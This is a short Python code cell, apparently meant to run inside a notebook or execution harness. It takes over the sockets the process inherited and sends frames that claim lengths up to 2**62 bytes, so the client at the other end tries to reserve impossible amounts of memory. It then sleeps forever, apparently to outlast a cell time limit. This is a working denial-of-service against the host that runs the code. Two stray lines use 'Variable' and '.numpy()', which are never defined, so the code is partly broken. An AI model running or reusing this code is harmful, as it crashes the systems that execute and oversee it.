"""A length beyond all memory, on the line to the client, takes no memory."""
# limits: hasty
# stopped: cell_time

import os
import socket
import time

A1 = Variable([1, 2, 3, 4])
B1 = A1.numpy()
for number in range(3, 256):
    try:
        with socket.socket(fileno=os.dup(number)) as line:
            if not line.getsockopt(socket.SOL_SOCKET, socket.SO_ACCEPTCONN):
                for length in (2**62, 2**40, 2**31, 2**29):
                    line.send(b"\x03" + length.to_bytes(8, "big") + b"x" * 100000)
    except OSError:
        pass
while True:
    time.sleep(1)
